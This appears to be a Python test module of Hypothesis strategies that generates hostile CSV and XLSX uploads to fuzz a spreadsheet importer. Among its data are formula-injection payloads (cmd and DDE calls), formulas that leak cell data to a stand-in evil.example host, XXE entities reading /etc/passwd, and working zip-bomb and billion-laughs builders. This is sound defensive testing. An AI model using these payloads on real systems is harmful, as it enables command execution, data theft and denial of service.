"""Hypothesis strategies for hostile tabular files.

A drawn :class:`Upload` is a file name and its bytes, with ``how`` (what was done to it, shown in
a failing example) and, when it was built from a table, the table itself (``header``, ``rows``,
``fmt``), so a test can say what an accepted file must have written.

The tables start from rows an importer would accept (``good_rows``, per import) and are then
damaged: headers reordered, cut short, repeated or extended; cells replaced by formulas, huge,
negative or fractional numbers, impossible dates, NUL characters or very long text; rows cut
short or run past the header; many rows. They are then written as CSV in many encodings (UTF-8 with
and without a byte order mark, UTF-16, Latin-1, CRLF lines, NULs) or as XLSX (typed cells, formula
cells, several sheets, an empty first sheet). Beside them, files that are not tables at all:
random bytes, an ``.xlsx`` that is not a zip, a zip that is not a workbook, zip bombs, XML entity
bombs and external entities inside a workbook, and sheets that claim a million rows."""

from __future__ import annotations

import csv
import functools
import io
import re
import zipfile

import openpyxl
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from core.tabular import MAX_ZIP_MEMBERS, UNCOMPRESSED_RATIO

# -- hostile cells ------------------------------------------------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")  # OWASP's list, and a line feed
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "-2+3+cmd|' /C calc'!A0",
)


def formulas() -> st.SearchStrategy[str]:
    """Text a spreadsheet program would run: a formula start followed by anything."""
    return st.one_of(
        st.sampled_from(FORMULAS),
        st.builds(
            lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), st.text(max_size=30)
        ),
    )


def huge_numbers() -> st.SearchStrategy[str]:
    """Whole numbers beyond what any column holds, either side of zero, up to 5,000 digits."""
    return st.one_of(
        st.integers(min_value=2**31, max_value=10**40).map(str),
        st.integers(min_value=-(10**40), max_value=-1).map(str),
        st.sampled_from(["9" * 5000, "-" + "9" * 5000, "1" + "0" * 30]),
    )


def odd_numbers() -> st.SearchStrategy[str]:
    """Numbers that are not plain whole numbers, or not written the plain way."""
    return st.one_of(
        st.sampled_from(
            [
                "1.5",
                "12.0",
                "1e3",
                "0x1F",
                "1,000",
                "١٢",
                "１２",
                "½",
                "NaN",
                "inf",
                "-0",
                "+7",
                " 7 ",
                "7 beds",
                "0",
                "--1",
                "1_000",
                "٣",
                "0" * 40 + "1",
            ]
        ),  # fmt: skip
        st.floats(allow_nan=True, allow_infinity=True).map(repr),
        st.decimals(allow_nan=True, allow_infinity=True).map(str),
    )


def odd_dates() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(
            [
                "0000-01-01",
                "0001-01-01",
                "9999-12-31",
                "2019-02-30",
                "2019-13-01",
                "2019-04-01T25:00:00",
                "20190401",
                "2019-4-1",
                "01/04/2019",
                "2019-W14-1",
                "2019-04-01T00:00:00+14:00",
                "0001-01-01T00:00:00+14:00",
                "9999-12-31T23:59:59-14:00",
                "0001-01-01",
                "2019-07-10T12:00:00Z",
            ]
        ),  # fmt: skip
        st.dates().map(lambda d: d.isoformat()),
        st.datetimes().map(lambda d: d.isoformat()),
    )


def odd_quarters() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(
            [
                "9999/00 Q4",
                "0000/01 Q1",
                "0001/02 Q1",
                "2019/21 Q1",
                "2019/20 Q5",
                "2019/20 Q0",
                "2019-20-Q1",
                " 2019 / 20  q1 ",
                "FY19 Q1",
                "2099/00 Q1",
            ]
        ),  # fmt: skip
        st.builds(
            lambda y, q: f"{y:04d}/{(y + 1) % 100:02d} Q{q}",
            st.integers(0, 9999),
            st.integers(1, 4),
        ),
    )


def long_text() -> st.SearchStrategy[str]:
    """Longer than any field; the last is longer than Python's CSV field limit (131,072)."""
    return st.one_of(st.text(min_size=201, max_size=500), st.just("x" * 140_000))


def nul_text() -> st.SearchStrategy[str]:
    return st.builds(lambda a, b: f"{a}\x00{b}", st.text(max_size=8), st.text(max_size=8))


def hostile_cells() -> st.SearchStrategy[str]:
    return st.one_of(
        formulas(),
        huge_numbers(),
        odd_numbers(),
        odd_dates(),
        odd_quarters(),
        long_text(),
        nul_text(),
        st.text(max_size=40),
        st.just(""),
    )


# -- tables -------------------------------------------------------------------------------------


class Upload:
    """A file to upload. Not a dataclass, so a failing example shows this short form rather than
    every byte."""

    def __init__(self, name, content, how, header=(), rows=(), fmt=""):
        self.name, self.content, self.how = name, content, how
        self.header, self.rows = tuple(header), tuple(rows)
        self.fmt = fmt  # "csv" or "xlsx" when built from a table

    def __repr__(self):
        return (
            f"Upload({self.name!r}, {len(self.content)} bytes, {self.how!r}, "
            f"header={list(self.header)!r}, rows={[list(r) for r in self.rows][:5]!r})"
        )


@st.composite
def headers(draw, columns: tuple[str, ...]) -> tuple[str, list[str]]:
    """A header row and what was done to it."""
    cols = list(columns)
    how = draw(
        st.sampled_from(
            ["exact", "reordered", "missing", "extra", "duplicated", "cased", "blank", "hostile"]
        )
    )
    if how == "reordered":
        cols = draw(st.permutations(cols))
    elif how == "missing":
        del cols[draw(st.integers(0, len(cols) - 1))]
    elif how == "extra":
        cols.insert(draw(st.integers(0, len(cols))), draw(st.sampled_from(["notes", "id", "Ω"])))
    elif how == "duplicated":
        cols.insert(draw(st.integers(0, len(cols))), draw(st.sampled_from(cols)))
    elif how == "cased":
        cols = [f" {c.upper()} " if i % 2 else c.title() for i, c in enumerate(cols)]
    elif how == "blank":
        cols.insert(draw(st.integers(0, len(cols) - 1)), "")
    elif how == "hostile":
        cols[draw(st.integers(0, len(cols) - 1))] = draw(hostile_cells())
    return how, list(cols)


def _key(name) -> str:
    return str(name).replace("\ufeff", "").strip().lower()


@st.composite
def tables(draw, columns: tuple[str, ...], good_rows: st.SearchStrategy[list[dict]]):
    """``(how, header, rows)``: good rows laid out under a drawn header, then damaged."""
    header_how, header = draw(headers(columns))
    records = draw(good_rows)
    rows = [[record.get(_key(name), "") for name in header] for record in records]
    hows = [f"header {header_how}"]
    damage = draw(
        st.lists(
            st.sampled_from(["cell", "cell", "cell", "short", "long", "blank row", "many rows"]),
            max_size=3,
        )
    )
    for what in damage:
        if what == "many rows" and rows:
            if len(rows) < 100:  # once: up to a few hundred rows, repeats (duplicates) included
                rows = rows * draw(st.integers(20, 60))
        elif what == "blank row":
            rows.insert(draw(st.integers(0, len(rows))), [""] * len(header))
        elif not rows:
            continue
        elif what == "cell":
            r, c = draw(st.integers(0, len(rows) - 1)), draw(st.integers(0, len(header) - 1))
            rows[r] = list(rows[r]) + [""] * (len(header) - len(rows[r]))
            rows[r][c] = draw(hostile_cells())
        elif what == "short":
            r = draw(st.integers(0, len(rows) - 1))
            rows[r] = rows[r][: draw(st.integers(0, len(header) - 1))]
        elif what == "long":
            r = draw(st.integers(0, len(rows) - 1))
            rows[r] = list(rows[r]) + draw(st.lists(hostile_cells(), min_size=1, max_size=3))
        hows.append(what)
    return ", ".join(hows), header, rows


CSV_ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "latin-1", "cp1252", "utf-32")


def csv_bytes(rows, *, encoding="utf-8", newline="\r\n", errors="replace") -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator=newline).writerows(rows)
    return out.getvalue().encode(encoding, errors=errors)


def _xlsx_value(value, typed: bool):
    """A cell for openpyxl: text without the characters XML cannot hold; numbers typed if asked."""
    if not isinstance(value, str):
        return value
    value = ILLEGAL_CHARACTERS_RE.sub("", value)
    if typed and re.fullmatch(r"-?[0-9]{1,15}", value):
        return int(value)
    if typed and re.fullmatch(r"-?[0-9]{1,15}\.[0-9]{1,6}", value):
        return float(value)
    return value  # a str starting with "=" (and more) is written as a formula, with no cached value


def xlsx_bytes(sheets: list[list], *, typed: bool = False, formulas: bool = False) -> bytes:
    """A workbook of ``sheets``. Text starting with "=" is text (as typed after an apostrophe),
    unless ``formulas``: then it is a formula cell, which a reader sees without a value."""
    book = openpyxl.Workbook()
    for index, rows in enumerate(sheets):
        sheet = book.active if index == 0 else book.create_sheet(f"Sheet {index + 1}")
        for row in rows:
            sheet.append([_xlsx_value(v, typed) for v in row])
            if not formulas:
                for cell in sheet[sheet.max_row]:
                    if cell.data_type == "f":
                        cell.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def xlsx_read_back(value, typed: bool, formulas: bool):
    """What a cell written by :func:`xlsx_bytes` holds when read back with ``data_only``: a
    formula has no cached value, so it reads as blank."""
    value = _xlsx_value(value, typed)
    if formulas and isinstance(value, str) and value.startswith("=") and len(value) > 1:
        return None
    return value


@st.composite
def tabular_files(draw, columns: tuple[str, ...], good_rows: st.SearchStrategy[list[dict]]):
    """A table written as a hostile CSV or XLSX file."""
    how, header, rows = draw(tables(columns, good_rows))
    table = [header, *rows]
    if draw(st.booleans()):
        encoding = draw(st.sampled_from(CSV_ENCODINGS))
        newline = draw(st.sampled_from(["\n", "\r\n", "\r"]))
        content = csv_bytes(table, encoding=encoding, newline=newline)
        if draw(st.integers(0, 9)) == 0 and content:  # a NUL byte somewhere
            at = draw(st.integers(0, len(content) - 1))
            content = content[:at] + b"\x00" + content[at:]
            encoding += " with a NUL"
        name = draw(st.sampled_from(["file.csv", "FILE.CSV", "registry export.csv"]))
        try:
            csv_bytes(table, encoding=encoding.split()[0], newline=newline, errors="strict")
        except UnicodeEncodeError:
            # Characters the encoding lacks were written as "?": the file says "?", and an
            # accepted file must have written that.
            text = content.decode(encoding.split()[0])
            try:
                rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
            except csv.Error:  # a cell past the CSV field limit: the file is refused anyway
                pass
        return Upload(name, content, f"csv {encoding} {newline!r}: {how}", header, rows, "csv")
    typed, formulas = draw(st.booleans()), draw(st.booleans())
    layout = draw(st.sampled_from(["one sheet", "several sheets", "empty first sheet"]))
    sheets = {
        "one sheet": [table],
        "several sheets": [table, [["notes"], ["=1+1"]], []],
        "empty first sheet": [[], table],
    }[layout]
    content = xlsx_bytes(sheets, typed=typed, formulas=formulas)
    fmt = "xlsx" if layout != "empty first sheet" else "xlsx, data not on the first sheet"
    kinds = f"{' typed' if typed else ''}{' formula cells' if formulas else ''}"
    return Upload("file.xlsx", content, f"xlsx {layout}{kinds}: {how}", header, rows, fmt)


# -- files that are not tables ------------------------------------------------------------------


def _rezip(base: bytes, replace: dict[str, bytes], extra: dict[str, bytes] | None = None) -> bytes:
    """``base`` (a zip) with some members' content replaced, and members added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            target.writestr(member.filename, replace.get(member.filename, source.read(member)))
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>"
)
ENTITY_ATTACKS = {
    "billion laughs": (LAUGHS, "&lol9;"),
    "external entity": ('<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
    "external DTD": ('<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">', "x"),
    "parameter entity": (
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/hostname"> %p;]>',
        "x",
    ),
}


def entity_workbook(columns: tuple[str, ...], attack: str, part: str) -> bytes:
    """A real workbook whose ``part`` carries an XML entity attack."""
    doctype, reference = ENTITY_ATTACKS[attack]
    base = xlsx_bytes([[list(columns), ["x"] * len(columns)]])
    if part == "sheet":
        xml = (
            f'<?xml version="1.0"?>{doctype}<worksheet xmlns="{MAIN_NS}"><sheetData><row r="1">'
            f'<c r="A1" t="inlineStr"><is><t>{reference}</t></is></c></row></sheetData></worksheet>'
        )
        return _rezip(base, {SHEET: xml.encode()})
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        original = archive.read(part).decode()
    # The DOCTYPE goes after the XML declaration; the reference inside the root element's text
    # where a parser that expands it would have to.
    declaration, _, rest = original.partition("?>")
    tampered = f"{declaration}?>{doctype}{rest}"
    if reference.startswith("&"):
        tampered = tampered.replace("</", f"{reference}</", 1)
    return _rezip(base, {part: tampered.encode()})


@functools.cache
def zip_bomb(limit: int) -> bytes:
    """A small real workbook whose sheet inflates past ``UNCOMPRESSED_RATIO`` × ``limit``."""
    base = xlsx_bytes([[["a"]]])
    row = b'<row><c t="inlineStr"><is><t>0</t></is></c></row>'
    head = f'<?xml version="1.0"?><worksheet xmlns="{MAIN_NS}"><sheetData>'.encode()
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for member in source.infolist():
            if member.filename != SHEET:
                target.writestr(member.filename, source.read(member))
        with target.open(SHEET, "w", force_zip64=True) as sheet:
            sheet.write(head)
            chunk = row * 20_000
            for _ in range(UNCOMPRESSED_RATIO * limit // len(chunk) + 1):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


@functools.cache
def lying_zip_bomb() -> bytes:
    """A workbook whose sheet declares 2 KB in the zip's directory but inflates to 8 MB: the guard
    reads the declared size, so the reading itself must stop at it."""
    base = xlsx_bytes([[["a"]]])
    body = (
        f'<?xml version="1.0"?><worksheet xmlns="{MAIN_NS}"><sheetData>'.encode()
        + b'<row><c t="inlineStr"><is><t>0</t></is></c></row>' * 180_000
        + b"</sheetData></worksheet>"
    )
    data = bytearray(_rezip(base, {SHEET: body}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        names = [m.filename for m in archive.infolist()]
    # Patch the uncompressed size (offset 24) of the sheet's central directory entry.
    index = 0
    while True:
        index = data.index(b"PK\x01\x02", index)
        name_length = int.from_bytes(data[index + 28 : index + 30], "little")
        name = data[index + 46 : index + 46 + name_length].decode()
        if name == SHEET:
            data[index + 24 : index + 28] = (2048).to_bytes(4, "little")
            break
        index += 4
    assert SHEET in names
    return bytes(data)


@functools.cache
def sparse_sheet_bomb(kind: str) -> bytes:
    """A few kilobytes whose sheet claims rows or columns by the million: a declared dimension of
    A1:XFD1048576 with a row 1,048,576 after row 1, or thousands of rows each reaching column XFD."""
    base = xlsx_bytes([[["a"]]])
    if kind == "far row":
        rows = (
            '<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>'
            '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        )
        dimension = '<dimension ref="A1:XFD1048576"/>'
    else:
        rows = "".join(f'<row r="{r}"><c r="XFD{r}"><v>1</v></c></row>' for r in range(1, 3000))
        dimension = ""
    xml = f'<?xml version="1.0"?><worksheet xmlns="{MAIN_NS}">{dimension}<sheetData>{rows}</sheetData></worksheet>'
    return _rezip(base, {SHEET: xml.encode()})


@functools.cache
def many_members() -> bytes:
    base = xlsx_bytes([[["a"]]])
    return _rezip(base, {}, {f"xl/media/{i}.bin": b"" for i in range(MAX_ZIP_MEMBERS + 1)})


def zip_not_a_workbook() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "not a workbook")
    return out.getvalue()


@st.composite
def broken_files(draw, columns: tuple[str, ...], limit: int):
    """Files that are not a readable table: each must be refused with a message."""
    kind = draw(
        st.sampled_from(
            [
                "random bytes",
                "empty",
                "not a zip",
                "zip not a workbook",
                "zip bomb",
                "lying zip bomb",
                "far row",
                "wide rows",
                "many members",
                "entities",
                "xlsx named csv",
                "old excel",
                "other type",
                "empty workbook",
                "header only",
            ]
        )  # fmt: skip
    )
    if kind == "random bytes":
        content = draw(st.binary(max_size=600))
        return Upload(draw(st.sampled_from(["file.csv", "file.xlsx"])), content, kind)
    if kind == "empty":
        return Upload(draw(st.sampled_from(["file.csv", "file.xlsx"])), b"", kind)
    if kind == "not a zip":
        content = draw(st.sampled_from([b"PK\x03\x04 not really", b"ods_code,name\n"]))
        return Upload("file.xlsx", content + draw(st.binary(max_size=50)), kind)
    if kind == "zip not a workbook":
        return Upload("file.xlsx", zip_not_a_workbook(), kind)
    if kind == "zip bomb":
        return Upload("file.xlsx", zip_bomb(limit), kind)
    if kind == "lying zip bomb":
        return Upload("file.xlsx", lying_zip_bomb(), kind)
    if kind in ("far row", "wide rows"):
        return Upload("file.xlsx", sparse_sheet_bomb(kind), kind)
    if kind == "many members":
        return Upload("file.xlsx", many_members(), kind)
    if kind == "entities":
        attack = draw(st.sampled_from(sorted(ENTITY_ATTACKS)))
        part = draw(
            st.sampled_from(
                [
                    "sheet",
                    "xl/workbook.xml",
                    "xl/styles.xml",
                    "[Content_Types].xml",
                    "docProps/app.xml",
                ]
            )
        )
        return Upload("file.xlsx", entity_workbook(columns, attack, part), f"{attack} in {part}")
    if kind == "xlsx named csv":
        return Upload("file.csv", xlsx_bytes([[list(columns)]]), kind)
    if kind == "old excel":
        return Upload(
            "file.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + draw(st.binary(max_size=20)), kind
        )
    if kind == "other type":
        name = draw(st.sampled_from(["file.ods", "file.pdf", "file", "file.csv.exe", "file.txt"]))
        return Upload(name, csv_bytes([list(columns)]), kind)
    if kind == "header only":  # valid, and nothing to import: the page must say so
        header = list(columns)
        if draw(st.booleans()):
            return Upload("file.csv", csv_bytes([header]), kind, header, (), "csv")
        return Upload("file.xlsx", xlsx_bytes([[header]]), kind, header, (), "xlsx")
    return Upload("file.xlsx", xlsx_bytes([[]]), kind)


@st.composite
def clean_files(draw, columns: tuple[str, ...], good_rows):
    """The good rows as a well-made file (columns in any order): the import must take all of it."""
    header = draw(st.permutations(columns))
    rows = [[record[c] for c in header] for record in draw(good_rows)]
    if draw(st.booleans()):
        content = csv_bytes([header, *rows], encoding=draw(st.sampled_from(["utf-8", "utf-8-sig"])))
        return Upload("file.csv", content, "clean csv", header, rows, "csv")
    return Upload("file.xlsx", xlsx_bytes([[header, *rows]]), "clean xlsx", header, rows, "xlsx")


def hostile_files(columns: tuple[str, ...], good_rows, limit: int) -> st.SearchStrategy[Upload]:
    """Every kind of file: damaged tables (half the examples), files that are not tables, and
    well-made files (so that the all-or-nothing rule is seen taking all, too)."""
    return st.one_of(
        tabular_files(columns, good_rows),
        tabular_files(columns, good_rows),
        broken_files(columns, limit),
        clean_files(columns, good_rows),
    )


# -- reading a table back as the test's oracle ----------------------------------------------------


def expected_records(upload: Upload) -> list[dict[str, str]]:
    """The non-blank data rows of a table-built file, as text by column, the way a person reading
    the file would take them (cells stripped; a whole float is a whole number). Used only to say what
    an accepted file must have written."""
    typed, formulas = "typed" in upload.how, "formula cells" in upload.how
    names = [_key(n) for n in upload.header]
    records = []
    for row in upload.rows:
        cells = []
        for value in row:
            if upload.fmt == "xlsx":
                value = xlsx_read_back(value, typed, formulas)
            if value is None:
                value = ""
            if isinstance(value, float) and value.is_integer():
                value = int(value)
            cells.append(str(value).replace("\ufeff", "").strip())
        if not any(cells):
            continue
        records.append(
            {name: (cells[i] if i < len(cells) else "") for i, name in enumerate(names) if name}
        )
    return records
